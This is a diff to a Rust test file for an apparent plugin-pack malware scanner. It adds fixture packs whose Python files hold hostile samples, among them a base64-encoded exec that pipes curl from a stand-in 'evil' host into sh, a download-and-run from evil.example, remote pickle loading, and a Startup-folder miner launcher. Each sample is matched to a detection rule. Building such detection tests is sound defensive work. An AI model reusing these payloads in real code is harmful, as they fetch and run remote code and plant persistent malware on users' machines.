@@ -1,5 +1,6 @@
-//! `airlock scan`: a fixture pack per archive, install-hook and requirements rule, each made here
-//! and named after what it hides, flagged as specified; a benign pack has no high finding.
+//! `airlock scan`: a fixture pack per archive, Python, install-hook and requirements rule, each
+//! made here and named after what it hides, flagged as specified; a benign pack (with a
+//! subprocess argument list and `torch.load`) has no finding.
 
 use std::io::Write;
 
@@ -49,7 +50,7 @@ fn base() -> Vec<(&'static str, Vec<u8>)> {
 }
 
 #[test]
-fn each_archive_and_requirements_rule_is_flagged_and_a_benign_pack_is_not() {
+fn each_scanner_rule_is_flagged_by_a_fixture_named_after_it_and_a_benign_pack_is_not() {
     let world = World::prepared(1, 1);
     let with = |extra: Vec<(&'static str, Vec<u8>)>| [base(), extra].concat();
     // (fixture file, members, symbolic links, the rule expected, its severity)
@@ -103,6 +104,67 @@ fn each_archive_and_requirements_rule_is_flagged_and_a_benign_pack_is_not() {
             "high",
         ),
         (
+            "exec-of-base64.zip",
+            with(vec![(
+                "nodes.py",
+                b"import base64\nPAYLOAD = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwgfCBzaCcp'\nexec(base64.b64decode(PAYLOAD))\n".to_vec(),
+            )]),
+            vec![],
+            "python.exec-decoded",
+            "high",
+        ),
+        (
+            "download-and-exec.zip",
+            with(vec![(
+                "nodes.py",
+                b"import urllib.request, subprocess\nurllib.request.urlretrieve('http://evil.example/m', '/tmp/.m')\nsubprocess.Popen(['/tmp/.m'])\n".to_vec(),
+            )]),
+            vec![],
+            "python.download-exec",
+            "high",
+        ),
+        (
+            "shell-subprocess.zip",
+            with(vec![("nodes.py", b"import subprocess\nsubprocess.run(f'pip install {pkg}', shell=True)\n".to_vec())]),
+            vec![],
+            "python.shell",
+            "high",
+        ),
+        (
+            "pickle-loads.zip",
+            with(vec![(
+                "nodes.py",
+                b"import pickle, requests\nstate = pickle.loads(requests.get('http://x/state').content)\n".to_vec(),
+            )]),
+            vec![],
+            "python.unsafe-deserialize",
+            "high",
+        ),
+        (
+            "startup-folder-write.zip",
+            with(vec![(
+                "nodes.py",
+                b"import os\nstartup = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\nwith open(os.path.join(startup, 'update.bat'), 'w') as f:\n    f.write('start miner.exe')\n".to_vec(),
+            )]),
+            vec![],
+            "python.write-outside",
+            "high",
+        ),
+        (
+            "obfuscated-import.zip",
+            with(vec![("nodes.py", b"m = __import__(''.join(map(chr, [111, 115])))\nm.getcwd()\n".to_vec())]),
+            vec![],
+            "python.obfuscated-import",
+            "high",
+        ),
+        (
+            "unparsable-python.zip",
+            with(vec![("nodes.py", b"def hidden(:\n    exec(x)\n".to_vec())]),
+            vec![],
+            "python.unparsable",
+            "medium",
+        ),
+        (
             "blocklisted-dependency.zip",
             with(vec![("requirements.txt", b"ultralytics==8.3.41\n".to_vec())]),
             vec![],
@@ -143,6 +205,14 @@ fn each_archive_and_requirements_rule_is_flagged_and_a_benign_pack_is_not() {
             ("requirements.txt", b"numpy>=1.24\nsafetensors\nultralytics==8.3.40\n".to_vec()),
             ("web/js/ui.js", b"export {};\n".to_vec()),
             ("nodes/blur.py", b"def blur(x):\n    return x\n".to_vec()),
+            (
+                "nodes/update.py",
+                b"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'], check=True)\n".to_vec(),
+            ),
+            (
+                "nodes/model.py",
+                b"import torch, os, folder_paths\nsd = torch.load(os.path.join(folder_paths.models_dir, 'm.pt'), map_location='cpu')\n".to_vec(),
+            ),
         ]),
         &[],
     );
